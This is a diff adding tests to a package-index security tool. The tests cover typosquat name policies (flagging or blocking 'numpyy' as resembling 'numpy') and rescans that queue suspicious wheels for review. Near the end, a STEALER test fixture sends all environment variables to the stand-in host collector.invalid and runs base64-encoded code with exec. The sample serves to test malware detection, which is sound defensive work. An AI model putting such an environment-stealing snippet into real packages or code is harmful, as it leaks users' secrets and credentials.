@@ -309,3 +309,67 @@ def test_name_rules_ban_and_allow(bastion: Bastion, client, tmp_path: Path) -> N
         review.set_name_rule(session, bastion, "forbidden-thing", None, OPERATOR)
     assert post_upload(client, token, wheel, upload_form(wheel, "forbidden-thing", "1.0")).status_code == 200
     assert [e.subject for e in _events(bastion, "name.ban")] == ["name:forbidden-thing"]
+
+
+def test_name_policy_review_creates_and_queues(bastion_with, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    instance, client = bastion_with(name_policy="review")
+    token = make_user(instance, "dora")
+    wheel = make_wheel(tmp_path, "numpyy", "1.0")
+    response = post_upload(client, token, wheel, upload_form(wheel, "numpyy", "1.0"))
+    assert response.status_code == 200, response.text
+    assert wheel.name in client.get("/simple/numpyy/").text  # flagged, not hidden
+    with instance.db.read() as session:
+        [case] = review.list_cases(session, OPERATOR)
+    assert (case.kind, case.source, case.hidden, case.project_name) == ("project", "name", False, "numpyy")
+    assert "'numpy'" in case.summary
+    assert [e.subject for e in _events(instance, "project.name-flagged")] == ["project:numpyy"]
+
+
+def test_name_policy_block_refuses_and_stores_nothing(bastion: Bastion, client, tmp_path: Path) -> None:
+    token = make_user(bastion, "eve")
+    wheel = make_wheel(tmp_path, "numpyy", "1.0")
+    response = post_upload(client, token, wheel, upload_form(wheel, "numpyy", "1.0"))
+    assert response.status_code == 400
+    assert "'numpy'" in response.text and "bastion names allow" in response.text
+    with bastion.db.read() as session:
+        assert session.execute(select(Project.id)).first() is None
+        assert review.list_cases(session, OPERATOR) == []
+    assert list(bastion.settings.effective_blob_dir.rglob("*.whl")) == []
+
+
+def test_rescan_queues_new_hits_and_never_hides(bastion: Bastion, client, tmp_path: Path) -> None:
+    from bastion.scanning.models import ScanRecord
+
+    token = make_user(bastion, "fred")
+    plain = _upload(client, token, tmp_path, "rescanned", "1.0")
+    with bastion.db.read() as session:
+        [(verdict, version)] = session.execute(select(ScanRecord.verdict, ScanRecord.rules_version)).all()
+    assert verdict == "allow" and version == bastion.scanner.rules_version
+    summary = review.rescan(bastion)
+    assert (summary.scanned, summary.up_to_date, summary.new_hits) == (0, 1, 0)
+    # Pretend the file was scanned with older rules and the current rules would now flag it: swap
+    # the stored blob for a malicious-looking one of the same name (the index serves its bytes).
+    evil_dir = tmp_path / "evil"
+    evil_dir.mkdir()
+    evil = make_wheel(evil_dir, "rescanned", "1.0", files={"rescanned/__init__.py": STEALER})
+    with bastion.db.write() as session:
+        session.execute(update(ScanRecord).values(rules_version="old"))
+        path = session.execute(select(File.path).where(File.filename == plain.name)).scalar_one()
+    blob = bastion.blobs.local_path(path)
+    assert blob is not None
+    blob.write_bytes(evil.read_bytes())
+    summary = review.rescan(bastion)
+    assert (summary.scanned, summary.new_hits) == (1, 1)
+    assert _visible(client, "rescanned", plain.name)["simple"]  # queued, never hidden
+    with bastion.db.read() as session:
+        [case] = review.list_cases(session, OPERATOR)
+    assert (case.source, case.hidden, case.filename) == ("rescan", False, plain.name)
+    again = review.rescan(bastion, everything=True)
+    assert (again.scanned, again.new_hits) == (1, 0)  # the open case is not doubled
+
+
+STEALER = b"""import base64, json, os, urllib.request
+secrets = json.dumps(dict(os.environ)).encode()
+urllib.request.urlopen("https://collector.invalid/upload", data=secrets)
+exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
+"""
